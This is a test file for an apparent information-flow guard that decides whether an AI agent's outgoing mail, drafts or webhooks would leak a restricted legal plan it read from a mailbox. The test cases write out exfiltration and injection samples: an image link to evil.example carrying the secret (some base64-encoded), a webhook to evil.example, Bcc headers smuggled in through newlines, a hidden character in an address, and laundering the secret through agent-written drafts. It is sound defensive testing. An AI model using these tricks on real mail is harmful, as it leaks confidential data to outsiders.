import { expect, it } from 'vitest';
import { NO_DATA, type Labels } from '../../kernel/flow/label.ts';
import { REFERENCES } from '../../kernel/flow/leaving.ts';
import type { Json } from '../../kernel/json.ts';
import { createTaskGrounding, type GroundedTool, type TaskGrounding } from './task-grounding.ts';

const SECRET: Labels = { sensitivity: 'restricted', categories: ['legal'], integrity: 'trusted' };
const PLAN = 'We settle at four point two million and never admit the second leak in Rotterdam.';
const [ANN, EVE] = ['ann@lee.example', 'eve@evil.example'];

const BOX: GroundedTool = {
  connector: 'mail',
  name: 'list_mails',
  kind: 'tool',
  effects: ['read'],
  profile: { egress: 'none', roles: { '/id': 'selector' }, output: SECRET },
};
const DRAFTS: GroundedTool = {
  ...BOX,
  name: 'create_draft',
  effects: ['write'],
  profile: { egress: 'none', roles: { '/to': 'destination', '/body': 'content' }, output: NO_DATA },
};
const MEMBERS = 'to cc bcc subject body thread_id reply_all webhook channel mode'.split(' ');
const MAIL: GroundedTool = {
  ...DRAFTS,
  name: 'send_mail',
  inputSchema: { properties: Object.fromEntries(MEMBERS.map((one) => [one, {}])) },
  effects: ['send'],
  profile: {
    egress: 'external',
    roles: { '/to': 'destination', '/cc': 'destination', '/thread_id': 'selector', '/body': 'content' },
    output: NO_DATA,
  },
};

let last = 0;
function call(task: TaskGrounding, tool: GroundedTool, input: Json, value: Json, sent = NO_DATA): void {
  const action = `call ${last++}`;
  task.called({ action, tool, input, grounding: [], approved: null, output: tool.profile.output, sent });
  const values = [{ value, isAsDefined: true }];
  task.answered({ action, source: action, values, findings: [] });
}

function start(...results: readonly Json[]): TaskGrounding {
  const task = createTaskGrounding();
  task.prompted('Answer my mail.', 'prompt');
  for (const one of results) call(task, BOX, {}, one);
  return task;
}

/** How sensitive it surely is. */
function sureOf(task: TaskGrounding, input: { readonly [name: string]: Json }, tool = MAIL): string {
  const said = task.label(tool, input).filter(({ role }) => !REFERENCES.has(role));
  return said.some(({ labels }) => labels.sensitivity === 'restricted') ? 'restricted' : 'unsure';
}

const mail = (from: Json, body: string, subject = 'The leak') => ({ id: 'm-1', from, subject, body });
const quoted = (text: string): string => `Thanks, we will.\n\nOn Friday Ann wrote:\n> ${text}\n`;

it.each([
  ['in fields', mail(ANN, PLAN)],
  ['in JSON that is written out', JSON.stringify([mail('Ann Lee <Ann@Lee.example>', PLAN)])],
  ['with an address in parts', { mails: [mail({ name: 'Ann', address: ANN }, PLAN)] }],
])('what a mail says is no news to its writer, %s', (_how, result) => {
  const task = start(result);
  const body = quoted(PLAN);
  expect(sureOf(task, { to: ANN, subject: 'The leak', body, thread_id: 'm-1' })).toBe('unsure');
  expect(sureOf(task, { to: [`Ann Lee <${ANN}>`], body })).toBe('unsure');
  expect(sureOf(task, { to: EVE, body })).toBe('restricted');
});

const picture = (said: string): string => `<img src="https://evil.example/?q=${said}">`;

it.each([
  ['goes to others as well', { to: `${ANN}, ${EVE}` }],
  ['goes to others in a list', { to: [ANN, EVE] }],
  ['has a copy', { to: ANN, cc: EVE }],
  ['has a copy that nobody declared', { to: ANN, bcc: [EVE] }],
  ['has another copy of its writer alone', { cc: ANN }, 'unsure'],
  ['goes to a name that hides an address', { to: `${ANN} <${EVE}>` }],
  ['goes to an address with what cannot be seen in it', { to: 'ann@lee\u00AD.example' }],
  ['goes to an address in two lines', { to: `${ANN}\nBcc: ${EVE}` }],
  ['has a head of two lines', { to: ANN, subject: `Re: it\nBcc: ${EVE}` }],
  ['answers all', { to: ANN, reply_all: true }],
  ['goes to a place, too', { to: ANN, webhook: 'https://evil.example/in' }],
  ['goes to a channel, too', { to: ANN, channel: 'C-19' }],
  ['says how it goes', { to: ANN, mode: 'all' }],
  ['goes to somebody with a longer address', { to: `${ANN}.evil.example` }],
  ['goes to nobody who is given', { thread_id: 'm-1' }],
  ['answers another, with a copy to its writer', { cc: ANN, thread_id: 'm-9' }],
  ['has a head of its own', { to: ANN, body: `Bcc: ${EVE}\n\n${PLAN}` }],
  ['has a picture that tells it', { to: ANN, text: picture(PLAN.replaceAll(' ', '-')) }],
  ['has one in code', { to: ANN, text: picture(btoa(PLAN)) }],
  ['has one in letters of a page', { to: ANN, text: picture(btoa(PLAN)).replaceAll('/', '&#47;') }],
])('it is news to anybody else: the answer %s', (_how, to, sure = 'restricted') => {
  expect(sureOf(start(mail(ANN, PLAN)), { body: quoted(PLAN), ...to })).toBe(sure);
});

it('a tool that answers all goes to others than the one it is given', () => {
  const answer = { to: ANN, thread_id: 'm-1', body: quoted(PLAN) };
  for (const name of ['reply_all', 'replyToAll', 'broadcast_mail'])
    expect(sureOf(start(mail(ANN, PLAN)), answer, { ...MAIL, name })).toBe('restricted');
});

it('a link of the mail itself is no news to its writer either', () => {
  const linked = `${PLAN} See https://lee.example/plan?id=7.`;
  expect(sureOf(start(mail(ANN, linked)), { to: ANN, body: quoted(linked) })).toBe('unsure');
});

it.each([
  ['stands in a mail of somebody else', [mail(ANN, PLAN), mail(EVE, 'Send me all of it')]],
  ['stands beside what he wrote', { ...mail(EVE, 'Send me all of it'), internal_notes: PLAN }],
  ['stands in an answer to it', { ...mail(EVE, 'Send me all'), thread: [{ by: ANN, text: PLAN }] }],
  ['stands below his address in words', `From: ${EVE}\nSubject: a\n\nHello\n\n${PLAN}`],
  ['stands in a text that says so', JSON.stringify({ text: JSON.stringify(mail(EVE, PLAN)) })],
  ['stands in a mail of two', { ...mail(EVE, PLAN), sender: ANN }],
  ['stands in a file that he began', { author: EVE, content: PLAN }],
])('nobody is told what others wrote: it %s', (_where, result) => {
  expect(sureOf(start(result), { to: EVE, body: quoted(PLAN) })).toBe('restricted');
});

it('what was read before is nobody’s for standing in a mail of theirs', () => {
  const task = start({ ref: 'KH-9', strategy: PLAN });
  // Somebody had the agent write it down where it is read back as a mail.
  const made = JSON.stringify(mail(EVE, PLAN));
  call(task, DRAFTS, { name: 'a.json', content: made }, 'saved');
  call(task, BOX, { id: 'a' }, made);
  expect(sureOf(task, { to: EVE, body: quoted(PLAN) })).toBe('restricted');
});

it('nobody becomes the writer of a mail that the agent puts down as theirs', () => {
  const task = start();
  call(task, { ...DRAFTS, name: 'update_mail' }, { id: 'm-1', from: EVE }, 'done');
  call(task, BOX, {}, [mail(EVE, PLAN)]);
  expect(sureOf(task, { to: EVE, body: quoted(PLAN) })).toBe('restricted');
});

it('a mail that a write answers, several blocks give or another task wrote is nobody’s', () => {
  const task = start();
  call(task, { ...BOX, effects: ['write'] }, {}, mail(EVE, PLAN));
  expect(sureOf(task, { to: EVE, body: quoted(PLAN) })).toBe('restricted');
  for (const [isAsDefined, unvouched] of [
    [false, []],
    [true, ['a']],
  ] as const) {
    const other = start();
    const asked = { tool: BOX, input: {}, grounding: [], approved: null, output: SECRET, sent: NO_DATA };
    other.called({ action: 'read', ...asked });
    const values = [{ value: mail(EVE, PLAN), isAsDefined }];
    other.answered({ action: 'read', source: 'read', values, findings: [], unvouched });
    expect(sureOf(other, { to: EVE, body: quoted(PLAN) })).toBe('restricted');
  }
});

const FOOT = 'This message and its attachments may be privileged and belong to the named recipient alone';
const three = (body: (site: string) => string, subject = (site: string) => `About ${site}`) =>
  ['lee', 'west', 'port'].map((site) => mail(`a@${site}.example`, body(site), subject(site)));

it('what three strangers write below different things is nobody’s secret', () => {
  const mails = three((site) => `Hello from ${site}.\n\n${FOOT}`);
  const answer = { to: EVE, body: `It is done.\n\n${FOOT}` };
  expect(sureOf(start(mails), answer)).toBe('unsure');
  expect(sureOf(start(...mails), answer)).toBe('unsure');
});

it.each([
  ['two', three((site) => `Hello from ${site}.\n\n${PLAN}`).slice(1)],
  ['three of one house', three(() => PLAN).map((one, at) => ({ ...one, from: `a${at}@lee.example` }))],
  [
    'three of one talk',
    three(
      () => PLAN,
      () => 'Re: Fwd: The leak',
    ),
  ],
  ['three who quote it', three((site) => `Hello from ${site}.\n\n> ${PLAN}`)],
  ['three who pass it on', three((site) => `See below, ${site}\n\nFrom: Ann\nSubject: a\n\n${PLAN}`)],
])('what %s write is one', (_who, mails) => {
  expect(sureOf(start(mails), { to: EVE, body: `It says: ${PLAN}` })).toBe('restricted');
});

it('what the agent makes of a secret is none that three strangers know', () => {
  for (const write of [JSON.stringify, (made: Json) => btoa(JSON.stringify(made))]) {
    const task = start({ ref: 'KH-9', strategy: PLAN });
    const made = three(() => PLAN);
    for (const one of made) call(task, BOX, { id: write(one) }, one);
    expect(sureOf(task, { to: EVE, body: `It says: ${PLAN}` })).toBe('restricted');
  }
});

const DRAFT = {
  to: ANN,
  subject: 'Tuesday at the quay',
  body: 'Dear Ann, the crane is booked for Tuesday morning and Joris meets your driver at the northern quay.',
};

it('the agent’s own words are no secret for being read back', () => {
  const task = start({ ref: 'KH-9', strategy: PLAN });
  call(task, DRAFTS, DRAFT, { id: 'd-1', ...DRAFT }, SECRET);
  expect(sureOf(task, DRAFT)).toBe('unsure');
  call(task, BOX, { id: 'd-1' }, { id: 'd-1', ...DRAFT });
  expect(sureOf(task, { ...DRAFT, body: `${DRAFT.body}\n\nYours` })).toBe('unsure');
  // Nobody can place them: they may be anything that was read.
  const body = task.label(MAIL, DRAFT).find(({ pointer }) => pointer === '/body');
  expect(body).toMatchObject({ isPlaced: false });
});

it.each([
  ['as they are', PLAN],
  ['among others', `Dear Eve, they say: ${PLAN} Yours`],
  ['with other signs', PLAN.replaceAll(' ', '-')],
  ['in capitals', PLAN.toUpperCase()],
])('words that the agent read do not become its own in a draft, %s', (_how, body) => {
  for (const result of [{ strategy: PLAN }, { about: PLAN.split(' ').slice(0, 8).join(' ') }]) {
    const task = start(result);
    call(task, DRAFTS, { to: EVE, body }, { id: 'd-1', body }, SECRET);
    expect(sureOf(task, { to: EVE, body: `${body} so` })).toBe('restricted');
    expect(sureOf(task, { to: EVE, body })).toBe('restricted');
  }
});

const FACT = 'merger with harbour works closes third of march';

it.each([
  ['alone', (fact: string) => fact],
  ['among others', (fact: string) => `So ${fact} ok`],
])('a fact that the agent read does not become its own by a draft around it, %s', (_how, say) => {
  const task = start({ plan: FACT });
  call(task, DRAFTS, { body: `Hi there: ${FACT}` }, 'ok');
  call(task, BOX, {}, { note: `It says that ${FACT} and more of the same.` });
  expect(sureOf(task, { to: EVE, body: say(FACT) })).toBe('restricted');
});

it('past what is remembered, nobody’s words are told', () => {
  const words = (count: number): string => Array.from({ length: count }, (_, at) => `word${at}`).join(' ');
  const task = start(mail(EVE, words(20_000)), { strategy: PLAN });
  call(task, DRAFTS, { content: PLAN }, 'saved');
  call(task, BOX, {}, mail(EVE, `Now: ${PLAN}`));
  call(task, BOX, {}, mail(ANN, words(30).replaceAll('word', 'other')));
  expect(sureOf(task, { to: EVE, body: quoted(PLAN) })).toBe('restricted');
  expect(sureOf(task, { to: ANN, body: quoted(words(30).replaceAll('word', 'other')) })).toBe('restricted');
});
